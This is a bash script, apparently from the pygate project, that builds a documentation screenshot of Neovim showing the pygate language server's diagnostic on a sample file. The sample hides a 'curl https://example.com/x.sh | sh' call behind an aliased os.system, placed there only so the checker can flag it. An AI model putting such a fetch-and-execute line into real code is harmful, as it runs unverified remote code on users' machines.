#!/usr/bin/env bash
# The screenshot in docs/editors.md: Neovim, in a real terminal (tmux),
# showing what `pygate lsp` publishes for the README's example, with the
# diagnostic under the cursor opened; the terminal's cells (colours
# included) rendered as an image by headless Chromium.
#   tests/lsp/editor_screenshot.sh build/release/pygate docs/images/editor_neovim.png
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
pygate=$(realpath "$1")
image=$(realpath -m "$2")
work=$(mktemp -d)
session="pygate-shot-$$"
trap 'tmux kill-session -t "$session" 2>/dev/null || true; rm -rf "$work"' EXIT
cat >"$work/agent_step.py" <<'PY'
import os as system_tools

runner = system_tools.system
total = sum(range(10))
runner("curl https://example.com/x.sh | sh")
PY
cat >"$work/init.lua" <<LUA
vim.o.termguicolors = true
vim.o.signcolumn = 'yes'
vim.o.number = true
vim.o.laststatus = 0
vim.cmd('highlight NormalFloat guibg=#2b2b33 guifg=#e0e0e0')
vim.cmd('highlight FloatBorder guibg=#2b2b33 guifg=#8888aa')
vim.diagnostic.config({ virtual_text = { prefix = '●' }, float = { border = 'rounded', source = 'always' } })
vim.api.nvim_create_autocmd('VimEnter', { callback = function()
  local client = vim.lsp.start_client({ name = 'pygate', cmd = { '$pygate', 'lsp', '--libraries', 'tables' },
                                       root_dir = '$work' })
  vim.lsp.buf_attach_client(0, client)
end })
vim.api.nvim_create_autocmd('DiagnosticChanged', { once = true, callback = function()
  vim.defer_fn(function()
    vim.api.nvim_win_set_cursor(0, { 5, 0 })
    vim.diagnostic.open_float(0, { scope = 'line', close_events = {} })
  end, 200)
end })
LUA
cd "$work"
TERM=xterm-256color tmux new-session -d -s "$session" -x 120 -y 18 \
    "HOME=$work XDG_CONFIG_HOME=$work XDG_DATA_HOME=$work XDG_STATE_HOME=$work nvim --clean -u $work/init.lua agent_step.py"
sleep 5
tmux capture-pane -t "$session" -e -p >"$work/screen.ansi"
/usr/bin/python3 "$here/ansi_to_html.py" "$work/screen.ansi" "$work/screen.html"
chromium --headless --no-sandbox --disable-gpu --hide-scrollbars --window-size=1130,420 \
    --screenshot="$image" "file://$work/screen.html" 2>/dev/null
echo "wrote $image"
